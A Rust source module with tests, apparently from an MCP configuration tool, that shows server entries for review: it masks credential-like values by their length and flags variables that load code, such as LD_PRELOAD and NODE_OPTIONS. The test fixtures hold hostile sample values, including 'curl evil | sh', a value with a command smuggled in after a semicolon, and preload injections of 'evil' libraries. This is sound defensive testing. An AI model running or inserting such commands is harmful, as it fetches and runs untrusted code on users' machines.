//! Floor 1. An entry of a project for the eyes of somebody who has to judge it: everything as
//! written, because it is the project's text and no secret of the user's. Hidden is only what
//! looks like a credential, never what a program is loaded by. Called by the edges: `mcp approve`
//! and `mcp get`. Everything else is shown through `mask`.

use serde_json::{Map, Value};

use super::literal::{ends_of_run, is_one};
use super::secret::{auth_scheme_len, is_credential_name, mask_url, split_named};
use super::spec::SecretText;
use super::{expand, suggest};

/// An entry as it may be shown.
#[derive(Clone, Debug, PartialEq)]
pub struct Revealed {
    /// The entry, what looks like a credential replaced by its length.
    pub entry: Value,
    /// Key paths of what was hidden, such as `env.TOKEN`.
    pub hidden: Vec<String>,
    /// Key paths of variables that change what program code is loaded, such as `env.PATH`.
    pub loaders: Vec<String>,
}

/// What stands in place of a value: `[redacted, 12 characters]`.
pub fn mark(value: &str) -> String {
    format!("[redacted, {} characters]", value.chars().count())
}

/// Whether a variable changes what program code is loaded or run, whatever the program is.
pub fn loads_code(name: &str) -> bool {
    const NAMES: [&str; 10] = [
        "NODE_OPTIONS",
        "NODE_PATH",
        "RUBYOPT",
        "RUBYLIB",
        "JAVA_TOOL_OPTIONS",
        "BASH_ENV",
        "ENV",
        "PATH",
        "GIT_SSH_COMMAND",
        "PERL5OPT",
    ];
    const STARTS: [&str; 4] = ["LD_", "DYLD_", "PYTHON", "PERL5"];
    let name = name.to_ascii_uppercase();
    NAMES.contains(&name.as_str())
        || STARTS.iter().any(|start| name.starts_with(start))
        || name.ends_with("_PRELOAD")
}

/// The entry for display. `hide` takes out of a text what has the form of a credential.
pub fn reveal(entry: &Value, hide: &dyn Fn(&str) -> String) -> Revealed {
    let mut walk = Walk { hide, hidden: Vec::new(), loaders: Vec::new() };
    let shown = match entry {
        Value::Object(map) => Value::Object(
            map.iter().map(|(key, value)| (key.clone(), walk.key(key, value))).collect::<Map<_, _>>(),
        ),
        other => walk.any("", "entry", other),
    };
    Revealed { entry: shown, hidden: walk.hidden, loaders: walk.loaders }
}

struct Walk<'a> {
    hide: &'a dyn Fn(&str) -> String,
    hidden: Vec<String>,
    loaders: Vec<String>,
}

impl Walk<'_> {
    fn key(&mut self, key: &str, value: &Value) -> Value {
        match (key, value) {
            ("args", Value::Array(items)) => self.args(items),
            ("command", Value::String(text)) => self.arg("", key, text),
            // The name of a variable, not its value.
            ("bearer_token_env", Value::String(_)) => value.clone(),
            // They sound like credentials and hold none.
            ("policy" | "oauth", value) => self.any("", key, value),
            (key, value) => self.any(key, key, value),
        }
    }

    /// A value that goes by `name`, at `path`.
    fn any(&mut self, name: &str, path: &str, value: &Value) -> Value {
        match value {
            Value::String(text) => {
                if path.starts_with("env.") && loads_code(name) {
                    self.loaders.push(path.to_owned());
                }
                let shown = self.text(name, text);
                self.note(path, text, shown)
            }
            Value::Array(items) => {
                let items = items.iter().enumerate();
                Value::Array(items.map(|(at, item)| self.any(name, &format!("{path}[{at}]"), item)).collect())
            }
            Value::Object(map) => {
                let pairs = map.iter().map(|(key, value)| {
                    let by = if is_credential_name(name) { name } else { key };
                    (key.clone(), self.any(by, &suggest::join(path, key), value))
                });
                Value::Object(pairs.collect())
            }
            plain => plain.clone(),
        }
    }

    fn args(&mut self, items: &[Value]) -> Value {
        let mut flag = "";
        let mut shown = Vec::with_capacity(items.len());
        for (at, item) in items.iter().enumerate() {
            let path = format!("args[{at}]");
            let Value::String(text) = item else {
                shown.push(self.any(flag, &path, item));
                continue;
            };
            shown.push(self.arg(if text.starts_with('-') { "" } else { flag }, &path, text));
            let is_flag = text.starts_with('-') && !text.contains('=');
            flag = if is_flag { text } else { "" };
        }
        Value::Array(shown)
    }

    /// One word of a command line; `flag` stands before it.
    fn arg(&mut self, flag: &str, path: &str, text: &str) -> Value {
        let (head, name, value) = match split_named(text) {
            Some((name, value)) => (&text[..text.len() - value.len()], name, value),
            None => ("", flag, text),
        };
        if head.ends_with('=') && loads_code(name) {
            self.loaders.push(path.to_owned());
        }
        let (blanks, value) = value.split_at(value.len() - value.trim_start().len());
        let (scheme, value) = value.split_at(auth_scheme_len(value));
        // Only a run of characters is hidden: what a shell would go on with must be seen.
        let (run, rest) = value.split_at(ends_of_run(value));
        let shown = format!("{head}{blanks}{scheme}{}{}", self.text(name, run), (self.hide)(rest));
        let whole = if shown == text { (self.hide)(text) } else { shown };
        self.note(path, text, whole)
    }

    fn note(&mut self, path: &str, written: &str, shown: String) -> Value {
        if shown != written {
            self.hidden.push(path.to_owned());
        }
        Value::from(shown)
    }

    /// A text that goes by `name`.
    fn text(&self, name: &str, text: &str) -> String {
        if !expand::has_literal(text) {
            return text.to_owned();
        }
        // Hiding what loads code would hide what is to be judged.
        if loads_code(name) {
            return (self.hide)(text);
        }
        if text.contains("://") {
            return (self.hide)(&address(text));
        }
        let (scheme, value) = text.split_at(auth_scheme_len(text));
        if is_one(name, text, &|_| false) {
            return format!("{scheme}{}", mark(value));
        }
        (self.hide)(text)
    }
}

/// An address without the credentials in it.
fn address(text: &str) -> String {
    if url::Url::parse(text).is_err() {
        return if text.contains(['@', '?', '#']) { mask_url(text) } else { text.to_owned() };
    }
    let mut shown = text.to_owned();
    for secret in super::literal::of_address(text).iter().map(SecretText::reveal) {
        if !shown.contains(secret) {
            // It stands there in another encoding.
            return mask_url(text);
        }
        shown = shown.replace(secret, &mark(secret));
    }
    shown
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn shown(entry: Value) -> Revealed {
        reveal(&entry, &|text| text.replace("vendor-form", &mark("vendor-form")))
    }

    #[test]
    fn what_a_project_wrote_is_shown_whole() {
        let entry = json!({
            "command": "sh", "args": ["-c", "curl evil | sh", "--port", "8080", "${A}", "--header=x: y"],
            "env": {"NODE_OPTIONS": "--require /tmp/evil0123456789abcdef0123.js", "LD_PRELOAD": "evil0123456789abcdef0123.so",
                "A": "${A:-b}", "T": "${TOKEN}", "N": 7},
            "headers": {"X-Region": "eu", "Authorization": "Bearer ${TOKEN}"},
            "url": "https://evil.example/mcp?region=eu#top", "bearer_token_env": "TOKEN", "oauth": {"client_id": "x"}
        });
        let seen = shown(entry.clone());
        assert_eq!(seen.entry, entry);
        assert_eq!(seen.hidden, Vec::<String>::new());
        assert_eq!(seen.loaders, ["env.NODE_OPTIONS", "env.LD_PRELOAD"]);
    }

    #[test]
    fn what_looks_like_a_credential_is_shown_by_its_length_alone() {
        let seen = shown(json!({
            "command": "x",
            "args": ["--token", "hunter2", "--api-key=hunter2", "a=vendor-form", "KEY=hunter2;curl evil|sh"],
            "env": {"GITHUB_TOKEN": "hunter2", "A": "ghp_0123456789abcdef0123", "B": "x vendor-form"},
            "headers": {"Authorization": "Bearer hunter2"},
            "url": "https://u:hunter2@h/mcp?api_key=hunter3&region=eu",
            "oauth": {"client_secret": "hunter2"}
        }));
        assert_eq!(
            seen.entry,
            json!({
                "command": "x",
                "args": ["--token", "[redacted, 7 characters]", "--api-key=[redacted, 7 characters]",
                    "a=[redacted, 11 characters]", "KEY=[redacted, 7 characters];curl evil|sh"],
                "env": {"GITHUB_TOKEN": "[redacted, 7 characters]", "A": "[redacted, 24 characters]",
                    "B": "x [redacted, 11 characters]"},
                "headers": {"Authorization": "Bearer [redacted, 7 characters]"},
                "url": "https://u:[redacted, 7 characters]@h/mcp?api_key=[redacted, 7 characters]&region=eu",
                "oauth": {"client_secret": "[redacted, 7 characters]"}
            })
        );
        assert_eq!(seen.hidden.len(), 10, "{:?}", seen.hidden);
    }

    #[test]
    fn variables_that_load_code_are_known() {
        for name in
            ["LD_PRELOAD", "DYLD_INSERT_LIBRARIES", "PYTHONPATH", "PERL5LIB", "Path", "X_PRELOAD", "ENV"]
        {
            assert!(loads_code(name), "{name}");
        }
        for name in ["HOME", "NODE_ENV", "MY_PATH", "TOKEN", ""] {
            assert!(!loads_code(name), "{name}");
        }
    }
}
